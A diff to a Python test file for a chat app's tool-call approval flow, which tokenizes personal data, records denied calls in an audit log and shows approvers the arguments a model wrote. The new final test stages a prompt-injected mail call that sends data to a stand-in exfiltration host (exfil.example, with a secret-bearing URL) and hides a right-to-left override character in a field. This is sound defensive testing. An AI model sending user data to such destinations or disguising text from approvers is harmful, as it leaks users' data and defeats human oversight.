@@ -20,6 +20,7 @@ from audit.models import AuditEvent, ToolCallAudit
 from chat.approvals import ApprovalError, always_allow_revoke, tool_approval_decide, tool_approvals_expire
 from chat.models import AlwaysAllow, ApprovalStatus, ToolApproval, Turn, TurnEvent, TurnStatus
 from chat.services import conversation_create
+from chat.vault import DbVault
 from chat.turns.recovery import turns_recover
 from chat.turns.runner import turn_run
 from chat.turns.start import TurnRefused, turn_start
@@ -128,6 +129,7 @@ def assert_no_arguments_in_audit() -> None:
 
 def test_a_call_needing_approval_waits_without_running_and_without_a_worker(world, settings):
     world.fake.script = [tool_call(MAIL, {"text": BODY}, call_id="call_mail")]
+    DbVault(world.conversation.pk).token_for("phone", PHONE)  # an earlier result's value: in the vault
     turn = ask(world)
 
     assert turn.status == TurnStatus.WAITING_APPROVAL
@@ -137,7 +139,7 @@ def test_a_call_needing_approval_waits_without_running_and_without_a_worker(worl
     assert requested["approval_id"] == str(approval.pk) and requested["call_id"] == "call_mail"
     assert (requested["tool"], requested["connector"]) == (MAIL, "mailer")
     assert 290 <= requested["expires_in"] <= 300  # the default: five minutes
-    # The arguments as the user may see them: personal data as tokens.
+    # The arguments as the user may see them: what the run's vault holds as tokens.
     assert PHONE not in json.dumps(requested, ensure_ascii=False)
     assert requested["arguments"]["text"].startswith("회의록을 보내 주세요. 연락처 [전화번호-")
     assert approval.arguments == requested["arguments"]
@@ -358,8 +360,34 @@ def test_stop_on_a_waiting_turn_ends_it_and_denies_the_call(world, resumed):
     assert ToolApproval.objects.get().status == ApprovalStatus.DENIED
     event = AuditEvent.objects.get(kind="approval_denied")
     assert event.details["stopped"] is True and event.actor_id == world.user.pk
-    assert received(world) == [] and ToolCallAudit.objects.count() == 0
+    # The call never ran, and it is on the record as denied (Stop), once.
+    assert received(world) == []
+    (row,) = ToolCallAudit.objects.all()
+    assert (row.outcome, row.tool, row.turn_id, row.actor_id) == ("denied", MAIL, turn.pk, world.user.pk)
+    assert row.origin == "chat" and "stopped" in row.reason
     # The conversation takes a new turn at once.
     world.fake.script = [text("네")]
     assert ask(world, "다른 질문").status == TurnStatus.COMPLETED
     assert_no_arguments_in_audit()
+
+
+def test_the_card_shows_the_destination_the_model_chose_as_written(world, resumed):
+    """An injected "send everything to X" is caught only if the approver sees
+    X: a recipient and a URL the model wrote (held by no vault) appear as
+    written, neither as tokens nor as URL references; a value the run's vault
+    holds stays a token; control characters show as escapes."""
+    destination = {
+        "text": f"전부 보내기 {PHONE}",
+        "to": "drop-box@exfil.example",
+        "url": "https://exfil.example/upload/9f8e7d6c5b4a?token=s3cr3t#frag",
+        "note": "safe\u202eevil",
+    }
+    world.fake.script = [tool_call(MAIL, destination, call_id="call_out")]
+    DbVault(world.conversation.pk).token_for("phone", PHONE)
+    turn = ask(world)
+    assert turn.status == TurnStatus.WAITING_APPROVAL
+    shown = ToolApproval.objects.get(turn=turn).arguments
+    assert shown["to"] == "drop-box@exfil.example"
+    assert shown["url"] == destination["url"]
+    assert PHONE not in shown["text"] and "[전화번호-" in shown["text"]
+    assert shown["note"] == "safe\\u202eevil"
